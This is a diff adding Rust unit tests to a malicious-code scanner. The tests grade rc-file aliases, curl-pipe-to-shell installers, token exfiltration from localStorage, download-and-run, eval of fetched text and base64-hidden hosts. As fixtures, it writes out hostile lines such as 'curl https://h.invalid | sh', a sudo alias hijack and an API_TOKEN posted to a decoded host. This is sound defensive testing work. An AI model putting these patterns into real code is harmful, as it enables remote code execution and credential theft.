@@ -326,10 +326,86 @@ fn a_start_up_file_that_is_written_back_as_it_was() {
         weight(Language::JavaScript, &code, "flow-persists").is_some_and(|s| s >= Severity::High)
     };
     assert!(!writes("rc", "# Inert\\nalias x=\"npx @inert/x\""));
+    assert!(!writes("rc", "INERT_DIR=\"/opt/inert\"\\nalias inert=\"source \\${INERT_DIR}/run.sh \\$@\""));
     assert!(writes("rc", "alias x=\"/tmp/x\""));
+    assert!(writes("rc", "alias sudo=\"/opt/inert/x\"") && writes("rc", "alias inert=x; /opt/inert/x"));
+    assert!(writes("rc", "alias inert=\"x\\$(/opt/inert/x)\"") && writes("rc", "export NODE_OPTIONS=\"-r/opt/inert\""));
+    assert!(writes("rc", "INERT_API_URL=\"https://h.invalid\""));
     assert!(writes("rc", "alias x=\"npx @inert/../x\""));
     assert!(writes("rc", "curl https://h.invalid | sh"));
     assert!(writes("path.join(__dirname, 'payload')", "# Inert"));
     assert!(writes("rc", &format!("# {}\\ncurl https://h.invalid | sh", "x".repeat(500))));
     assert!(writes("rc", "${process.argv[2]}"));
+}
+
+#[test]
+fn an_installer_of_others_is_known_by_the_pipe_that_it_stands_in() {
+    let weighs = |line: &str| {
+        let code = format!(
+            "#!/bin/bash\ncurl -fsSL https://files.invalid/key | tee /usr/share/keyrings/x >/dev/null\n{line}\n"
+        );
+        weight(Language::Shell, &code, "flow-remote-code")
+    };
+    use crate::model::Severity;
+    assert_eq!(weighs("curl -fsSL https://deb.nodesource.com/setup_22.x | bash -"), Some(Severity::Medium));
+    assert!(weighs("curl -fsSL https://files.invalid/setup | bash -") >= Some(Severity::High));
+    assert!(weighs("if command -v curl &>/dev/null; then echo yes; fi").is_none());
+}
+
+#[test]
+fn an_entry_of_a_page_s_own_storage_is_nobody_s_door() {
+    use crate::model::Severity;
+    let weighs = |key: &str, options: &str| {
+        let code =
+            format!("const kept = localStorage.getItem({key});\nfetch('https://collect.invalid/x', {options});\n");
+        weight(Language::JavaScript, &code, "flow-stores-sent")
+    };
+    let body = "{method: 'POST', body: JSON.stringify({kept})}";
+    assert!(weighs("'authToken'", body) >= Some(Severity::High));
+    assert!(weighs("window.which", body) >= Some(Severity::High));
+    assert!(weighs("'shopReferrer'", body) <= Some(Severity::Medium));
+    assert!(
+        weighs("'authToken'", "{method: 'POST', headers: {Authorization: `Bearer ${kept}`}}") <= Some(Severity::Medium)
+    );
+    assert!(weighs("'authToken'", "{method: 'POST', headers: {Cookie: kept}}") >= Some(Severity::High));
+}
+
+#[test]
+fn what_a_program_is_given_is_not_started() {
+    use crate::model::Severity;
+    let weighs = |command: &str| {
+        let code = format!(
+            "import os, subprocess, requests\ndef go(folder):\n    got = requests.get('https://games.invalid/list').json()\n    subprocess.Popen({command})\n"
+        );
+        weight(Language::Python, &code, "flow-download-run")
+    };
+    assert!(weighs("[os.path.join(folder, 'Player.exe'), f'player:1+place:{got}']") <= Some(Severity::Medium));
+    assert!(weighs("[os.path.join(folder, 'python.exe'), got]") >= Some(Severity::High));
+    assert!(weighs("[got, 'x']") >= Some(Severity::High));
+    assert!(weighs("[os.path.join(folder, 'Player.exe'), got]") >= Some(Severity::High));
+}
+
+#[test]
+fn a_value_that_is_read_with_eval_is_careless() {
+    use crate::model::Severity;
+    let weighs = |line: &str| {
+        let code =
+            format!("import requests\ndef go(url):\n    got = requests.get('https://h.invalid/x').text\n    {line}\n");
+        weight(Language::Python, &code, "flow-remote-code")
+    };
+    assert_eq!(weighs("return {'tag': eval(got)}"), Some(Severity::Medium));
+    assert!(weighs("eval(got)") >= Some(Severity::High) && weighs("exec(got)") >= Some(Severity::High));
+}
+
+#[test]
+fn a_host_that_is_spelled_out_is_not_hidden() {
+    use crate::model::Severity;
+    let weighs = |address: &str| {
+        let code = format!(
+            "import base64, os, requests\ni = base64.b64decode('SW5lcnQ=').decode()\nh = base64.b64decode('YXBpLmludmFsaWQ=').decode()\nrequests.post({address}, headers={{'Authorization': os.environ['API_TOKEN']}})\n"
+        );
+        weight(Language::Python, &code, "flow-hidden-address")
+    };
+    assert_eq!(weighs("f'https://api.h.invalid/m/{i}'"), None);
+    assert!(weighs("f'https://{h}/m'") >= Some(Severity::High));
 }
